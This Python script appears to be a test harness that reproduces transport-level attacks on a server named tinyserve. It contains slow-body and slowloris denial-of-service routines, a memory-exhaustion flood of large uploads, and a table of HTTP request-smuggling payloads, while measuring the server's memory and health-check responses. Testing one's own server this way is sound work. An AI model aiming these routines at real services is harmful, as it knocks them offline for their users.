#!/usr/bin/env python3
"""Transport attacks of issue 12 (cases 5, 6, 7, 9, 13) against a running tinyserve.

usage: attack.py CASE HOST:PORT PID
"""
import socket, sys, time, threading, os

def rss(pid):
    out = {}
    for line in open(f"/proc/{pid}/status"):
        if line.startswith(("VmRSS", "VmHWM")):
            k, v = line.split(":")
            out[k] = int(v.split()[0]) // 1024
    return out

PROBE_SOURCE = None  # the address probes come from (another client than the attacker)

def conn(addr, timeout=10, source=None):
    host, port = addr.split(":")
    s = socket.create_connection((host, int(port)), timeout=timeout,
                                 source_address=(source, 0) if source else None)
    return s

def read_all(s, limit=30):
    s.settimeout(limit)
    data = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            data += b
    except (socket.timeout, ConnectionResetError) as e:
        data += f"<{type(e).__name__}>".encode()
    return data

def first_line(data):
    return data.split(b"\r\n", 1)[0].decode(errors="replace")

def case5a(addr, pid, every=25, limit=100):
    s = conn(addr)
    s.sendall(b"POST /v2/models/iris/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
    t0 = time.time()
    sent = 0
    s.settimeout(every)
    while time.time() - t0 < limit:
        try:
            s.sendall(b" ")
            sent += 1
        except OSError as e:
            print(f"5a: send failed after {time.time()-t0:.1f}s: {e}")
            break
        try:
            data = s.recv(65536)
            print(f"5a: after {time.time()-t0:.1f}s, {sent} bytes sent, server answered {first_line(data)!r}" if data else f"5a: closed after {time.time()-t0:.1f}s, {sent} bytes sent")
            return
        except socket.timeout:
            pass
    print(f"5a: still open after {time.time()-t0:.1f}s, {sent} body bytes sent")

def case5b(addr, pid, limit=30):
    s = conn(addr)
    s.sendall(b"POST /v2/models/iris/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n")
    line = b"X-T: " + b"a" * 4090 + b"\r\n"
    t0 = time.time()
    n = 0
    s.settimeout(1)
    while time.time() - t0 < limit:
        try:
            s.sendall(line)
            n += 1
        except OSError as e:
            break
    data = read_all(s, 5)
    print(f"5b: {n} trailer lines ({n*len(line)} bytes) written in {time.time()-t0:.1f}s; answer {first_line(data)!r}; rss {rss(pid)}")

def case6(addr, pid, n=30, size=10 * 1024 * 1024):
    before = rss(pid)
    socks = []
    statuses = []
    def one():
        s = conn(addr, 60)
        s.sendall(f"POST /v2/models/iris/infer HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {size}\r\nExpect: 100-continue\r\n\r\n".encode())
        s.settimeout(2)
        try:
            early = s.recv(65536)
        except socket.timeout:
            early = b""
        statuses.append(first_line(early) if early else "(nothing)")
        s.settimeout(60)
        chunk = b"[" * 65536
        sent = 0
        try:
            while sent < size - 1:
                k = min(len(chunk), size - 1 - sent)
                s.sendall(chunk[:k])
                sent += k
        except OSError:
            pass
        socks.append((s, sent))
    ts = [threading.Thread(target=one) for _ in range(n)]
    for t in ts: t.start()
    for t in ts: t.join()
    time.sleep(2)
    after = rss(pid)
    body = sum(x for _, x in socks)
    print(f"6: {n} unauthenticated connections; first answer: {sorted(set(statuses))}; body bytes accepted {body/2**20:.1f} MiB; rss before {before} after {after}")
    for s, _ in socks: s.close()
    time.sleep(2)
    print(f"6: rss after closing {rss(pid)}")

def healthz(addr, timeout=3):
    try:
        s = conn(addr, timeout, PROBE_SOURCE)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        d = read_all(s, timeout)
        s.close()
        return first_line(d) or "(closed)"
    except OSError as e:
        return f"({type(e).__name__})"

def case7(addr, pid, n=1024, watch=90):
    idle = []
    for _ in range(n):
        idle.append(conn(addr))
    print(f"7: {n} silent connections open; rss {rss(pid)}")
    t0 = time.time()
    results = []
    while time.time() - t0 < watch:
        r = healthz(addr)
        results.append((round(time.time() - t0), r))
        if "200" in r and len(results) > 1 and time.time() - t0 > 5:
            pass
        time.sleep(1)
    bad = [t for t, r in results if "200" not in r]
    print(f"7: /healthz probes over {watch}s: {len(results)-len(bad)} x 200, {len(bad)} failures" + (f" (from {bad[0]} s to {bad[-1]} s, e.g. {dict(results)[bad[0]]!r})" if bad else ""))
    alive = 0
    for s in idle:
        s.setblocking(False)
        try:
            d = s.recv(1)
            if d == b"":
                pass
            else:
                alive += 1
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    print(f"7: silent connections still open at the end: {alive}")

SMUGGLE = {
    "TE+CL": b"GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "TE twice (chunked, gzip)": b"GET /healthz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: gzip\r\n\r\n0\r\n\r\n",
    "chunk size +b": b"GET /healthz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n+b\r\nhello world\r\n0\r\n\r\n",
    "chunk size '  b  '": b"GET /healthz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n  b  \r\nhello world\r\n0\r\n\r\n",
    "TE on HTTP/1.0": b"GET /healthz HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "HTTP/1.1 without Host": b"GET /healthz HTTP/1.1\r\n\r\n",
}

def case9(addr, pid):
    for name, req in SMUGGLE.items():
        s = conn(addr)
        s.sendall(req)
        d = read_all(s, 3)
        import re
        statuses = [m.decode() for m in re.findall(rb"HTTP/1\.1 \d\d\d [A-Za-z ]+", d)]
        print(f"9: {name:26} -> {statuses} {'(connection left open)' if d.endswith(b'<TimeoutError>') else '(closed)'}")

def case13(addr, pid):
    s = conn(addr)
    body = b'{"model":"bytelm","prompt":"hello","max_tokens":20,"stream":true}'
    s.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    s.shutdown(socket.SHUT_WR)
    d = read_all(s, 20)
    last = d.endswith(b"0\r\n\r\n")
    done = b"[DONE]" in d
    print(f"13: half-closed streaming client got {len(d)} bytes; final chunk: {last}; [DONE]: {done}; {first_line(d)!r}")


def case7b(addr, pid, n=1024, watch=25):
    """Slowloris: every connection sends part of a head, then a byte every 10 s."""
    socks = []
    for _ in range(n):
        s = conn(addr)
        try:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        except OSError:
            pass
        socks.append(s)
    stop = threading.Event()
    def drip():
        while not stop.wait(10):
            for s in socks:
                try:
                    s.sendall(b"X: y\r\n")
                except OSError:
                    pass
    threading.Thread(target=drip, daemon=True).start()
    time.sleep(3)  # every attacking connection has sent its first bytes and is read
    global PROBE_SOURCE
    PROBE_SOURCE = "127.0.0.2"
    t0 = time.time()
    health, model = [], []
    while time.time() - t0 < watch:
        health.append(healthz(addr))
        try:
            s = conn(addr, 3, PROBE_SOURCE)
            s.sendall(b"GET /v2/models/iris HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            model.append(first_line(read_all(s, 3)) or "(closed)")
            s.close()
        except OSError as e:
            model.append(type(e).__name__)
        time.sleep(1)
    stop.set()
    ok = lambda xs: sum("200" in x for x in xs)
    print(f"7b: {n} slowloris connections from 127.0.0.1, probes from 127.0.0.2; over {watch}s /healthz {ok(health)}/{len(health)} x 200, /v2/models/iris {ok(model)}/{len(model)} x 200 (others: {sorted(set(x for x in model if '200' not in x))}); rss {rss(pid)}")
    for s in socks: s.close()

if __name__ == "__main__":
    case, addr, pid = sys.argv[1], sys.argv[2], int(sys.argv[3])
    globals()["case" + case](addr, pid)
